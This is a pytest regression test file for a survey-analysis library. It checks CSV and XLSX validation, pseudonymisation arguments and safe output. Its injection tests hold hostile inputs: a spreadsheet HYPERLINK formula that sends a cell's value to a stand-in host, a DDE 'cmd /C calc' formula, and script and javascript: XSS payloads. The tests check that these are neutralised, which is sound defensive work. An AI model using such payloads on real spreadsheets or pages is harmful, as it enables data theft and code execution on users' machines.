"""Bad input never hurts: one named regression test per case found in a hostile review.

Each case was first run against the code before the fix and failed there (the commit that added
this file names which). The generated hostile files live in ``test_hostile_input.py``; the cases
of later reviews, by area, in ``test_bad_input_interop.py``, ``test_bad_input_text.py``,
``test_bad_input_privacy_args.py``, ``test_bad_input_responses_args.py``,
``test_bad_input_compare.py`` and ``test_bad_input_stats.py``; and of the second review in
``test_bad_input_cli.py`` (the command line), ``test_bad_input_library.py`` (library cases the
command line showed), ``test_bad_input_api.py`` (the remaining public functions),
``test_bad_input_files.py`` (hierarchies and the personal-data finder),
``test_bad_input_refi.py`` (REFI-QDA), ``test_bad_input_reports.py`` (the report pipeline on
unusual data), ``test_bad_input_policy.py`` (the disclosure policy) and
``test_bad_input_sphinx.py`` (the Sphinx extension).
"""

from __future__ import annotations

import csv
import io
import json
import pickle
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

import leadership_eval as le
from leadership_eval.cli import app
from leadership_eval.errors import (
    ConfigurationError,
    DataError,
    DisclosureError,
    InstrumentError,
    LeadershipEvalError,
    Problem,
)
from leadership_eval.instruments.expressions import ExpressionError
from leadership_eval.instruments.loader import loads_instrument

runner = CliRunner()

SMALL = """
kind: survey
id: small
version: 1.0.0
title: Small
respondent_id: rid
group_by: trust
choice_lists:
  agree5:
    ordered: true
    options: [{code: 1, label: Strongly disagree}, {code: 2, label: Disagree},
              {code: 3, label: Neutral}, {code: 4, label: Agree},
              {code: 5, label: Strongly agree}]
    missing: [{code: 9, label: Prefer not to say}]
  trust:
    options: [{code: t1, label: North Trust}, {code: t2, label: South Trust}]
sections:
  - id: s
    title: S
    items:
      - {id: rid, type: text, text: Id}
      - {id: trust, type: choice, choices: trust, text: Your trust, disclosure: quasi}
      - {id: q1, type: likert, choices: agree5, text: I lead}
      - {id: q2, type: likert, choices: agree5, text: I am a leader}
      - {id: q3, type: likert, choices: agree5, text: I plan}
      - {id: note, type: text, text: Anything else?, disclosure: free_text}
scales:
  - {id: lead, title: Leading, items: [q1, q2, q3], min_answered: 2}
"""


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("survey") / "small.yaml"
    path.write_text(SMALL, encoding="utf-8")
    return path


def _rows(n: int = 12, seed: int = 0) -> list[list[str]]:
    rng = np.random.default_rng(seed)
    out = []
    for i in range(n):
        answers = [str(int(v)) for v in rng.integers(1, 6, size=3)]
        out.append([f"r{i:02d}", "t1" if i % 2 else "t2", *answers, ""])
    return out


HEADER = ["rid", "trust", "q1", "q2", "q3", "note"]


def _write(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([header, *rows])
    return path


# ---------------------------------------------------------------- silent loss, silent success


def test_report_prints_what_validation_set_aside_and_strict_fails(
    small: Path, tmp_path: Path
) -> None:
    rows = _rows(24)
    rows[3][2] = "7"  # an invalid code
    rows[5][1] = "North Trust"  # a label where a code belongs: read as its code
    rows.append(list(rows[0]))  # a second submission
    data = _write(tmp_path / "export.csv", rows)
    out = tmp_path / "reports"
    result = runner.invoke(
        app, ["report", str(small), str(data), "--out", str(out), "-q", "--policy", "gmc-nts"]
    )
    assert result.exit_code == 0, result.output
    text = result.output
    assert "rows: 25 read, 24 used, 1 excluded (1 duplicate-id)" in text
    assert "values set aside: 1 invalid-code" in text
    assert "labels read as codes: trust (1 label)" in text
    problems = tmp_path / "reports-analyst" / "validation-problems.csv"
    assert problems.is_file() and str(problems) in text
    strict = runner.invoke(
        app,
        ["report", str(small), str(data), "--out", str(tmp_path / "r2"), "-q", "--strict"],
    )
    assert strict.exit_code == 1
    assert "--strict" in strict.output
    assert not (tmp_path / "r2").exists()


def test_report_with_the_wrong_survey_is_refused(tmp_path: Path) -> None:
    trainee = le.simulate_responses("trainee-survey", 60, seed=2)
    path = tmp_path / "trainee.csv"
    trainee.to_csv(path, index=False)
    result = runner.invoke(
        app, ["report", "supervisor-survey", str(path), "--out", str(tmp_path / "r"), "-q"]
    )
    assert result.exit_code == 1
    assert "trainee-survey" in result.output and "wrong-survey" not in result.output
    assert not (tmp_path / "r").exists()


def test_a_csv_cut_off_inside_a_quoted_field_is_a_truncated_record(
    small: Path, tmp_path: Path
) -> None:
    rows = _rows(6)
    rows[-1][5] = "a long comment that the export cut off"
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([HEADER, *rows])
    cut = text.getvalue()[:-20]  # inside the last quoted field
    path = tmp_path / "cut.csv"
    path.write_text(cut, encoding="utf-8")
    report = le.validate_responses(le.load_instrument(small), le.read_responses(path, small))
    assert not report.valid
    bad = report.errors[report.errors["code"] == "truncated-record"]
    assert bad["sheet_row"].tolist() == [7]  # header row 1, six records: the last is row 7
    assert report.excluded["excluded_reason"].tolist() == ["truncated-record"]
    assert len(report.data) + len(report.excluded) == 6


def test_a_ragged_row_is_reported_with_its_row(small: Path, tmp_path: Path) -> None:
    rows = _rows(6)
    rows[2] = [*rows[2], "an extra field"]  # a stray comma
    rows[4] = rows[4][:3]  # fields missing
    path = _write(tmp_path / "ragged.csv", rows)
    report = le.validate_responses(le.load_instrument(small), le.read_responses(path, small))
    ragged = report.errors[report.errors["code"] == "ragged-row"]
    assert ragged["sheet_row"].tolist() == [4, 6]
    assert "7 fields" in ragged["message"].iloc[0] and "6" in ragged["message"].iloc[0]
    assert len(report.data) == 4 and len(report.excluded) == 2


def test_an_unterminated_quote_that_swallows_records_is_reported(
    small: Path, tmp_path: Path
) -> None:
    lines = ["rid,trust,q1,q2,q3,note"]
    lines += [f"r{i},t1,1,2,3," for i in range(3)]
    lines += ['r3,t1,1,2,3,"an opened quote']
    lines += [f"r{i},t1,1,2,3,x" for i in range(4, 8)]
    lines += ['r8,t1,1,2,3,closed here"']
    lines += [f"r{i},t1,1,2,3," for i in range(9, 11)]
    path = tmp_path / "quote.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = le.validate_responses(le.load_instrument(small), le.read_responses(path, small))
    bad = report.errors[report.errors["code"] == "unterminated-quote"]
    assert bad["sheet_row"].tolist() == [5]
    assert "lines 5 to 10" in bad["message"].iloc[0]
    # unclosed to the end of the file: nothing is read as data that is not
    path.write_text("\n".join([*lines[:4], 'r3,t1,1,2,3,"open', *lines[5:8]]) + "\n")
    with pytest.raises(DataError, match="line 5") as info:
        le.read_responses(path, small)
    assert info.value.code == "unterminated-quote"


def test_xlsx_formula_cells_without_a_cached_value_are_reported(
    small: Path, tmp_path: Path
) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for row in _rows(5):
        ws.append(row)
    ws["C3"] = "=1+1"  # openpyxl saves no cached value
    path = tmp_path / "formulas.xlsx"
    wb.save(path)
    report = le.validate_responses(le.load_instrument(small), le.read_responses(path, small))
    bad = report.errors[report.errors["code"] == "formula-without-value"]
    assert bad[["sheet_row", "column"]].values.tolist() == [[3, "q1"]]
    assert "C3" in bad["message"].iloc[0]


def test_sav_value_labels_that_contradict_the_survey_are_not_ignored(
    small: Path, tmp_path: Path
) -> None:
    import pyreadstat

    frame = pd.DataFrame(
        {"rid": ["a", "b", "c"], "trust": ["t1", "t2", "t1"], "q1": [1.0, 5.0, 2.0]}
        | {"q2": [1.0, 2.0, 3.0], "q3": [1.0, 2.0, 3.0], "note": ["", "", ""]}
    )
    reversed_labels = {1.0: "Strongly agree", 2.0: "Agree", 3.0: "Neutral"}
    reversed_labels |= {4.0: "Disagree", 5.0: "Strongly disagree"}
    path = tmp_path / "reversed.sav"
    pyreadstat.write_sav(frame, str(path), variable_value_labels={"q1": reversed_labels})
    read = le.read_responses(path, small)
    assert read["q1"].tolist() == [5, 1, 4]  # recoded by the labels
    report = read.attrs["read_report"]
    assert "q1" in report.labelled
    assert any("value labels" in note for note in report.notes)


# ---------------------------------------------------------------- one set of rules


def test_cli_score_sets_bad_codes_and_labels_aside_instead_of_failing(
    small: Path, tmp_path: Path
) -> None:
    rows = _rows(10)
    rows[1][2] = "7"
    rows[2][3] = "Agree"  # a label: read as 4
    data = _write(tmp_path / "export.csv", rows)
    out = tmp_path / "scores.csv"
    result = runner.invoke(app, ["score", str(small), str(data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "values set aside: 1 invalid-code" in result.output
    scores = pd.read_csv(out)
    assert len(scores) == 10
    assert scores.loc[2, "lead"] == pytest.approx(np.mean([int(rows[2][2]), 4, int(rows[2][4])]))
    strict = runner.invoke(app, ["score", str(small), str(data), "--out", str(out), "--strict"])
    assert strict.exit_code == 1


def test_score_leaves_out_the_duplicate_and_the_blank_rows(small: Path, tmp_path: Path) -> None:
    rows = _rows(10)
    rows.append(list(rows[4]))
    rows += [[""] * 6, [""] * 6]
    data = _write(tmp_path / "dup.csv", rows)
    out = tmp_path / "scores.csv"
    rel = tmp_path / "rel.csv"
    result = runner.invoke(
        app, ["score", str(small), str(data), "--out", str(out), "--reliability", str(rel)]
    )
    assert result.exit_code == 0, result.output
    assert len(pd.read_csv(out)) == 10
    assert pd.read_csv(rel)["n"].tolist() == [10]
    assert "rows: 13 read, 10 used, 3 excluded (2 empty-row, 1 duplicate-id)" in result.output


def test_library_functions_apply_the_validation_rules(small: Path) -> None:
    survey = le.load_instrument(small)
    raw = pd.DataFrame(_rows(10), columns=HEADER)
    raw = pd.concat([raw, raw.iloc[[3]]], ignore_index=True)
    raw.loc[1, "q1"] = "7"
    with pytest.warns(le.DataWarning, match="1 duplicate-id") as caught:
        scores = le.score(survey, raw)
    assert "1 invalid-code" in str(caught[0].message)
    assert len(scores) == 10 and 10 not in scores.index
    stamp = scores.attrs["validation"]
    assert (stamp.rows_in, stamp.rows_used, stamp.rows_excluded) == (11, 10, 1)
    with pytest.warns(le.DataWarning):
        assert le.reliability(survey, raw)["n"].tolist() == [10]
    with pytest.warns(le.DataWarning):
        summary = le.item_summary(survey, raw, items=["q1"])
    assert summary["n_valid"].iloc[0] + summary["n_missing"].iloc[0] == 10
    # validated data is not validated again, and says nothing
    clean = le.validate_responses(survey, raw).data
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        pd.testing.assert_frame_equal(le.score(survey, clean), scores)


# ---------------------------------------------------------------- injection


HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_output_neutralises_formula_cells(value: str) -> None:
    from leadership_eval.safe_output import neutralise, restore

    safe = neutralise(value)
    assert safe == "'" + value
    assert restore(safe) == value
    assert neutralise("-3") == "-3" and neutralise("plain") == "plain" and neutralise(5) == 5


def test_anonymise_and_check_responses_write_no_formula(small: Path, tmp_path: Path) -> None:
    rows = _rows(12)
    for i, value in enumerate(HOSTILE[:4]):
        rows[i][5] = value
    rows[6][2] = "=1+1"  # an invalid code quoted into the problems file
    data = _write(tmp_path / "export.csv", rows)
    out = tmp_path / "shareable.csv"
    result = runner.invoke(app, ["anonymise", str(small), str(data), "--out", str(out), "-k", "5"])
    assert result.exit_code == 0, result.output
    errors = tmp_path / "errors.csv"
    runner.invoke(app, ["check-responses", str(small), str(data), "--errors", str(errors)])
    for path in (out, errors):
        cells = [c for row in csv.reader(path.open(encoding="utf-8")) for c in row]
        assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells), path
        assert not any(c.startswith("-") and not c[1:].replace(".", "").isdigit() for c in cells)


def test_out_writes_the_format_its_extension_names_or_refuses(small: Path, tmp_path: Path) -> None:
    data = _write(tmp_path / "export.csv", _rows(12))
    xlsx = tmp_path / "shareable.xlsx"
    result = runner.invoke(app, ["anonymise", str(small), str(data), "--out", str(xlsx)])
    assert result.exit_code == 0, result.output
    assert zipfile.is_zipfile(xlsx)
    assert pd.read_excel(xlsx).shape[0] == 12
    bad = runner.invoke(app, ["anonymise", str(small), str(data), "--out", str(tmp_path / "x.pdf")])
    assert bad.exit_code == 2 and ".pdf" in bad.output
    bad = runner.invoke(app, ["score", str(small), str(data), "--out", str(tmp_path / "x.json")])
    assert bad.exit_code == 2 and ".json" in bad.output


def test_xlsx_cells_that_look_like_formulas_are_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from leadership_eval.safe_output import write_table

    path = tmp_path / "t.xlsx"
    write_table(pd.DataFrame({"a": HOSTILE, "n": range(6)}), path)
    ws = load_workbook(path).active
    assert [c.data_type for c in ws["A"][1:]] == ["s"] * 6
    assert [c.value for c in ws["A"][1:]] == HOSTILE  # the text itself, marked as text


def test_markdown_export_escapes_markup(tmp_path: Path) -> None:
    survey = loads_instrument(
        """
kind: survey
id: hostile
version: 1.0.0
title: "<script>alert(1)</script> Title"
description: "See [here](javascript:alert(1)) and <img src=x onerror=alert(2)>"
choice_lists:
  yn: {options: [{code: 1, label: "<b>Yes</b>"}, {code: 2, label: "[No](javascript:x)"}]}
sections:
  - id: s
    title: "<img src=x onerror=alert(4)>"
    items:
      - {id: q1, type: choice, choices: yn, text: "Q1 <script>x</script> *bold*"}
      - {id: q2, type: text, text: "<a href='javascript:alert(5)'>l</a>", help: "![i](javascript:y)"}
"""
    )
    from leadership_eval.interop.printable import to_printable

    path = tmp_path / "q.md"
    to_printable(survey, path, format="markdown")
    text = path.read_text(encoding="utf-8")
    for raw in ("<script", "<img", "<a ", "<b>", "![i]"):
        assert raw not in text, raw
    assert "script" in text and "javascript" in text  # the words survive, escaped
    markdown_it = pytest.importorskip("markdown_it")

    rendered = markdown_it.MarkdownIt("commonmark").render(text)
    assert not re.search(r"<(script|img|a|b)\b", rendered)  # no element but the page's own


# ---------------------------------------------------------------- tracebacks


def test_a_non_ascii_letter_in_show_if_is_a_located_problem() -> None:
    text = SMALL.replace(
        "text: Anything else?,", 'text: Anything else?, show_if: "q1 == 1 and é == 2",'
    )
    with pytest.raises(InstrumentError) as info:
        loads_instrument(text)
    assert info.value.codes == ["show-if-syntax"]
    assert "'é'" in str(info.value)


def test_a_huge_integer_in_show_if_is_refused_when_loading() -> None:
    text = SMALL.replace(
        "text: Anything else?,", f'text: Anything else?, show_if: "q1 < {"9" * 1990}",'
    )
    with pytest.raises(InstrumentError, match="too large") as info:
        loads_instrument(text)
    assert info.value.codes == ["show-if-syntax"]


def test_check_anonymity_on_list_cells_is_a_data_error() -> None:
    frame = pd.DataFrame({"grade": [["FY1", "FY2"], ["FY1"], ["FY1"]], "trust": [1, 1, 2]})
    with pytest.raises(DataError, match="'grade' holds a list at data row 0") as info:
        le.check_anonymity(frame, ["trust", "grade"], k=2)
    assert info.value.code == "unhashable-value"


@pytest.mark.parametrize(
    "error",
    [
        InstrumentError([Problem("a.yaml", 3, 5, "unknown-field", "x", ("items", 0))], "bad"),
        DataError("m", "invalid-code", pd.DataFrame({"row": [1], "value": ["x"]})),
        DisclosureError("m", "small-cell", [{"cell": 1}]),
        ConfigurationError("m", "bad-key", [Problem("p.yaml", 1, 1, "c", "m")]),
        ExpressionError("bad", 4, "show-if-type", "q1 > 'a'"),
    ],
    ids=lambda e: type(e).__name__,
)
def test_every_error_pickles_with_its_data(error: LeadershipEvalError) -> None:
    copy = pickle.loads(pickle.dumps(error))
    assert type(copy) is type(error) and str(copy) == str(error)
    for key, value in vars(error).items():
        got = getattr(copy, key)
        if isinstance(value, pd.DataFrame):
            pd.testing.assert_frame_equal(got, value)
        else:
            assert got == value, key


def test_every_exception_class_derives_from_the_base() -> None:
    from leadership_eval.interop._logic import UnsupportedLogic

    assert issubclass(UnsupportedLogic, LeadershipEvalError)
    assert issubclass(ExpressionError, LeadershipEvalError)


# ---------------------------------------------------------------- clear errors


def test_a_missing_trust_column_is_named(small: Path, tmp_path: Path) -> None:
    rows = [r[:1] + r[2:] for r in _rows(12)]
    data = _write(tmp_path / "notrust.csv", rows, [h for h in HEADER if h != "trust"])
    result = runner.invoke(app, ["report", str(small), str(data), "--out", str(tmp_path / "r")])
    assert result.exit_code == 1
    assert "no column 'trust'" in result.output and "at least 5" not in result.output


def test_a_utf16_csv_is_read(small: Path, tmp_path: Path) -> None:
    text = io.StringIO()
    csv.writer(text, delimiter="\t").writerows([HEADER, *_rows(4)])
    path = tmp_path / "unicode.csv"
    path.write_bytes(text.getvalue().encode("utf-16"))
    frame = le.read_responses(path, small)
    assert len(frame) == 4 and frame.attrs["read_report"].encoding == "utf-16"


def test_a_csv_named_xlsx_is_read_as_csv(small: Path, tmp_path: Path) -> None:
    path = _write(tmp_path / "export.xlsx", _rows(4))
    frame = le.read_responses(path, small)
    assert len(frame) == 4
    notes = " ".join(frame.attrs["read_report"].notes)
    assert "CSV text" in notes and ".xlsx" in notes


def test_a_non_utf8_names_file_is_named(small: Path, tmp_path: Path) -> None:
    data = _write(tmp_path / "export.csv", _rows(12))
    names = tmp_path / "names.txt"
    names.write_bytes("Jörg Müller\n".encode("cp1252"))
    result = runner.invoke(
        app,
        [
            "anonymise",
            str(small),
            str(data),
            "--out",
            str(tmp_path / "o.csv"),
            "--names",
            str(names),
        ],
    )
    assert result.exit_code == 1
    assert "names.txt" in result.output and "line 1" in result.output


@pytest.mark.parametrize("bound", [".inf", "-.inf", ".nan"])
def test_infinite_or_nan_bounds_are_refused(bound: str) -> None:
    text = SMALL.replace(
        "- {id: note, type: text,",
        f"- {{id: n, type: number, text: N, min: {bound}}}\n      - {{id: note, type: text,",
    )
    with pytest.raises(InstrumentError, match="finite") as info:
        loads_instrument(text)
    assert info.value.problems[0].line > 0


def test_rows_are_numbered_as_in_the_spreadsheet(small: Path, tmp_path: Path) -> None:
    rows = _rows(8)
    rows[4][2] = "7"  # data row 5, spreadsheet row 6
    data = _write(tmp_path / "export.csv", rows)
    result = runner.invoke(app, ["check-responses", str(small), str(data)])
    assert "row 6, column q1: invalid-code" in result.output
    assert "header" in result.output
    errors = tmp_path / "errors.csv"
    runner.invoke(app, ["check-responses", str(small), str(data), "--errors", str(errors)])
    written = pd.read_csv(errors)
    assert written.loc[written["code"] == "invalid-code", "sheet_row"].tolist() == [6]


def test_anonymise_prints_a_validation_summary_and_strict_fails(
    small: Path, tmp_path: Path
) -> None:
    rows = _rows(12)
    rows[2][3] = "6"
    data = _write(tmp_path / "export.csv", rows)
    out = tmp_path / "o.csv"
    result = runner.invoke(app, ["anonymise", str(small), str(data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "values left as found (check-responses lists them): 1 invalid-code" in result.output
    log = json.loads((tmp_path / "o.csv.log.json").read_text())
    assert log["n_records"] == 12
    strict = runner.invoke(
        app, ["anonymise", str(small), str(data), "--out", str(tmp_path / "p.csv"), "--strict"]
    )
    assert strict.exit_code == 1 and not (tmp_path / "p.csv").exists()


def test_trusts_given_as_numbers_are_named_as_the_reason_no_report_can_be_made(
    tmp_path: Path,
) -> None:
    """A trust column of numbers where the survey lists codes such as ``t07``: every row loses
    its trust in validation, and the refusal says so (it said only that no trust had enough
    respondents)."""
    data = le.simulate_evaluation(seed=5).trainees.copy()
    data["trust"] = data["trust"].str[1:].astype("Int64")
    with pytest.raises(DisclosureError, match="no trust has") as caught:
        le.build_reports("trainee-survey", data, tmp_path / "out")
    message = str(caught.value)
    assert "because their value is not a code of the survey's 'trust' item" in message
    assert "see the validation report" in message


KEY = "a demonstration key, not a secret"


def test_a_number_is_never_taken_for_a_pseudonym_key() -> None:
    """``key=32`` became ``bytes(32)``, thirty-two zero bytes: a key anyone can guess that
    passed the length check."""
    from leadership_eval.errors import ArgumentError

    with pytest.raises(ArgumentError, match="must be text or bytes, not int"):
        le.pseudonymise(["a"], key=32)
    with pytest.raises(ArgumentError):
        le.pseudonymise(["a"], key=12345678901234567890)  # was an OverflowError


def test_pseudonymising_a_repeated_column_is_refused() -> None:
    """A column name held twice made ``data[column]`` a frame, whose iteration gives its column
    names: every row got the pseudonym of the text "rid", and the ids were lost."""
    df = pd.DataFrame([["r1", "x", 4], ["r2", "y", 5]], columns=["rid", "rid", "q1"])
    with pytest.raises(DataError, match="2 columns of that name"):
        le.pseudonymise_column(df, "rid", key=KEY)
    with pytest.raises(DataError, match="not a DataFrame"):
        le.pseudonymise(df[["rid"]], key=KEY)
    with pytest.raises(DataError, match="not generator"):
        le.pseudonymise((v for v in ["r1", "r2"]), key=KEY)  # was one pseudonym of its repr


def test_anonymise_refuses_column_names_that_are_not_text() -> None:
    """Column names given as numbers (a file read without its header) matched none of the
    mapping's names, which are compared as text: every column was dropped as undeclared and an
    empty release came back without an error."""
    df = pd.DataFrame({0: [f"r{i}" for i in range(12)], 1: ["FY1", "FY2"] * 6, 2: ["A"] * 12})
    with pytest.raises(DataError, match=r"3 column name\(s\) that are not text \(0, 1, 2\)"):
        le.anonymise(df, {"quasi": [1, 2], "respondent_id": 0}, key=KEY)
    with pytest.raises(DataError, match="not text"):
        le.drop_direct_identifiers(df, [1, 2])


def test_a_boolean_column_matches_a_hierarchy_of_true_and_false() -> None:
    """numpy 2 names its boolean scalar ``bool``, not ``bool_``: ``numpy.True_`` became the text
    'True' where ``True`` is '1', so a nullable boolean column matched no hierarchy of
    True/False (and the error listed the very values it said were missing)."""
    df = pd.DataFrame({"b": [True, False] * 5})
    hierarchy = le.Hierarchy.from_values([True, False])
    result = le.generalise(df.astype({"b": "boolean"}), {"b": hierarchy}, k=5)
    assert len(result.data) == 10


def test_l_diversity_of_nan_is_refused() -> None:
    """``l=nan`` passed the check ``l < 1`` (a comparison with NaN is false) and changed the
    generalisation found."""
    df = pd.DataFrame({"g": ["a", "b"] * 10, "s": ["x", "y", "z", "w"] * 5})
    with pytest.raises(DataError, match="l must be a number of at least 1"):
        le.check_anonymity(df, ["g"], k=2, sensitive="s", l=float("nan"))
    with pytest.raises(DataError, match="l must be a number of at least 1"):
        le.generalise(
            df, {"g": le.Hierarchy.from_values(["a", "b"])}, k=2, sensitive="s", l=float("nan")
        )


@pytest.mark.parametrize(
    ("widths", "start"), [([5], float("nan")), ([5], float("inf")), ([float("inf")], 0.0)]
)
def test_interval_bands_must_be_finite(widths: list[float], start: float) -> None:
    """A start of NaN or infinity, or an infinite width, was accepted, and every value was
    then generalised to NaN (or to the band '[nan, nan)')."""
    with pytest.raises(ConfigurationError, match=r"finite|positive number"):
        le.Hierarchy.from_intervals(widths, start=start)


def test_a_hierarchy_level_must_be_one_value() -> None:
    """A mapping whose levels are themselves mappings (a slip in YAML indentation) loaded, and
    generalise failed later with "unhashable type: 'dict'"."""
    with pytest.raises(ConfigurationError, match="each level must be one value"):
        le.Hierarchy.from_mapping({"a": {"x": 1}, "b": {"x": 1}})
    with pytest.raises(ConfigurationError, match="not a list"):
        le.Hierarchy.from_rows([1, 2])  # type: ignore[list-item]


def test_answers_held_as_lists_are_named_not_a_traceback() -> None:
    """A multi_choice answer held as a list of codes (data read from JSON) stopped validation,
    scoring and reliability with pandas' "unhashable type: 'list'"."""
    survey = le.as_survey("trainee-survey")
    data = le.simulate_responses(survey, 6, seed=3)
    data["activities"] = (
        data["activities"].map(lambda v: v.split() if isinstance(v, str) else v).astype(object)
    )
    for run in (le.validate_responses, le.score, le.reliability):
        with pytest.raises(DataError, match=r"column 'activities' holds .* lists") as caught:
            run(survey, data)
        assert "codes separated by spaces" in str(caught.value)


def test_exporters_take_a_bundled_survey_id(tmp_path: Path) -> None:
    """Most functions take "trainee-survey" for the bundled survey; the exporters (to_xlsform,
    to_redcap, to_limesurvey, to_printable, write_labelled) stopped with an AttributeError on
    it, and so did check_filled, which checks a loaded model and now says to load it first."""
    from leadership_eval.errors import ArgumentError

    assert le.to_xlsform("trainee-survey", tmp_path / "s.xlsx").exists()
    assert le.to_redcap("trainee-survey", tmp_path / "s.csv").exists()
    data = le.simulate_responses(le.as_survey("trainee-survey"), 5, seed=1)
    assert le.write_labelled(data, "trainee-survey", tmp_path / "d.csv", format="csv").exists()
    assert "# Doctors in training and leadership" in le.to_printable(
        "trainee-survey", format="markdown"
    )
    with pytest.warns(le.InteropWarning):
        assert le.to_limesurvey("trainee-survey", tmp_path / "s.txt").exists()
    with pytest.raises(InstrumentError, match="placeholders to fill in"):
        le.check_filled(le.load_instrument("trainee-survey"))
    with pytest.raises(
        ArgumentError, match=r"load it first: le.load_instrument\('trainee-survey'\)"
    ):
        le.check_filled("trainee-survey")  # type: ignore[arg-type]
    with pytest.raises(ArgumentError, match="not NoneType"):
        le.check_filled(None)  # type: ignore[arg-type]


def test_reports_with_no_coded_segments_claim_no_theme(tmp_path: Path) -> None:
    """An empty table of coded segments stopped the reports with a KeyError in theme_summary;
    once it gave each theme's region row, the regional summary read "Themes raised by most
    interviewees: Understanding of leadership (0); ..." with nobody interviewed."""
    demo = le.simulate_evaluation(seed=5)
    result = le.build_reports(
        "trainee-survey",
        demo.trainees,
        tmp_path / "out",
        segments=demo.segments.iloc[:0],
        key=b"0123456789abcdef0123456789abcdef",
    )
    regional = result.regional_report.read_text(encoding="utf-8")
    assert "Themes across the region" in regional
    assert "raised by most interviewees" not in regional
